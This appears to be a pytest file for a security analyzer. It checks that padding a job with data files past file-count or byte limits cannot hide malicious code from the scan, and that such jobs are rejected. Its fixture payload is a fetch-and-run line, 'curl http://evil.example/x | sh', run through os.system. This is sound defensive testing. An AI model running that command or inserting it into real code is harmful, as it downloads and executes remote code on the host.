"""Padding a job past limits.max_files or limits.max_total_bytes cannot push
its code out of the analysis: code and configs meet the budgets before any
other file, over the whole unit (every client app together), and what the
budget left out is named. The unit still never passes (the limit finding)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from analyzer.engine.collect import collect
from analyzer.policy import load_policy

# Asserts on wall time (its time budgets and limits): `make test` runs it alone, after the parallel run.
pytestmark = pytest.mark.serial

LIMITS = load_policy().limits
RUN = "import os\nos.system('curl http://evil.example/x | sh')\n"


def _two_app_job(root: Path, padding: dict[str, bytes]) -> Path:
    """A job whose first client app (by name) is padding and whose second runs the payload."""
    (root / "app_b/custom").mkdir(parents=True)
    (root / "app_b/custom/train.py").write_text(RUN)
    for rel, data in padding.items():
        (root / "app_a" / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / "app_a" / rel).write_bytes(data)
    (root / "meta.json").write_text(json.dumps({"name": "padded", "deploy_map": {"app_a": ["@ALL"], "app_b": ["@ALL"]}}))
    return root


def _policy(tmp_path: Path, **limits: int) -> Path:
    path = tmp_path / "site.yaml"
    path.write_text("limits:\n" + "".join(f"  {k}: {v}\n" for k, v in limits.items()))
    return path


def _scan(scan_json, policy: Path, target: Path) -> tuple[int, dict]:
    rc, doc = scan_json("--no-cache", "--policy", str(policy), str(target))
    return rc, doc["reports"][0]


def test_data_files_in_another_app_do_not_push_code_past_max_files(scan_json, tmp_path: Path) -> None:
    job = _two_app_job(tmp_path / "job", {f"data/rows_{i:03d}.csv": b"1,2\n" for i in range(40)})
    rc, report = _scan(scan_json, _policy(tmp_path, max_files=10), job)
    rules = {(f["path"], f["rule"]) for f in report["findings"]}
    assert ("app_b/custom/train.py", "remote-code.fetch-and-run-command") in rules
    [limit] = [f for f in report["findings"] if f["rule"] == "unanalyzable.limit-files"]
    assert "31 not read" in limit["message"] and "app_a/data/rows_" in limit["message"]
    assert rc == 1 and report["decision"] == "reject"


def test_data_bytes_in_another_app_do_not_push_code_past_max_total_bytes(scan_json, tmp_path: Path) -> None:
    job = _two_app_job(tmp_path / "job", {f"rows_{i}.csv": b"0," * 995 for i in range(4)})
    rc, report = _scan(scan_json, _policy(tmp_path, max_total_bytes=8000), job)
    rules = {(f["path"], f["rule"]) for f in report["findings"]}
    assert ("app_b/custom/train.py", "remote-code.fetch-and-run-command") in rules
    assert rc == 1 and report["decision"] == "reject"


def test_code_under_a_name_that_is_not_code_is_read_before_data(tmp_path: Path) -> None:
    root = tmp_path / "u"
    root.mkdir()
    for i in range(10):
        (root / f"a{i}.csv").write_text("1,2\n")
    (root / "zz_run").write_text("#!/usr/bin/env python3\n" + RUN)  # a shebang, no extension
    (root / "zz_lib.dat").write_bytes(b"\x7fELF" + b"\0" * 60)  # native code under a data name
    content = collect(root, LIMITS.model_copy(update={"max_files": 3}))
    kinds = {f.path: f.kind for f in content.files}
    assert kinds["zz_run"] == "python" and kinds["zz_lib.dat"] == "native" and "zz_run" in content.data
    assert not content.complete


def test_past_max_files_of_code_smaller_code_is_read_first_and_the_rest_is_named(tmp_path: Path) -> None:
    """Larger padding .py files, named to be read first by name, do not push out a smaller payload."""
    root = tmp_path / "u"
    root.mkdir()
    for i in range(8):
        (root / f"a{i}.py").write_text("# padding\n" * 100)
    (root / "zz.py").write_text(RUN)
    content = collect(root, LIMITS.model_copy(update={"max_files": 5}))
    assert "zz.py" in content.data and len(content.files) == 5
    [limit] = [f for f in content.findings if f.rule == "unanalyzable.limit-files"]
    assert "4 not read" in limit.message and limit.never_accept
    again = collect(root, LIMITS.model_copy(update={"max_files": 5}))
    assert [f.path for f in again.files] == [f.path for f in content.files] and again.findings == content.findings


def test_the_listing_bound_holds_over_every_app_of_the_unit(tmp_path: Path, monkeypatch) -> None:
    import analyzer.engine.collect as collect_module

    monkeypatch.setattr(collect_module, "LISTING_FACTOR", 2)
    job = _two_app_job(tmp_path / "job", {f"rows_{i:02d}.csv": b"1\n" for i in range(8)})
    content = collect(job, LIMITS.model_copy(update={"max_files": 4}))
    listing = [f for f in content.findings if "was not listed" in f.message]
    assert len(listing) == 1 and not content.complete
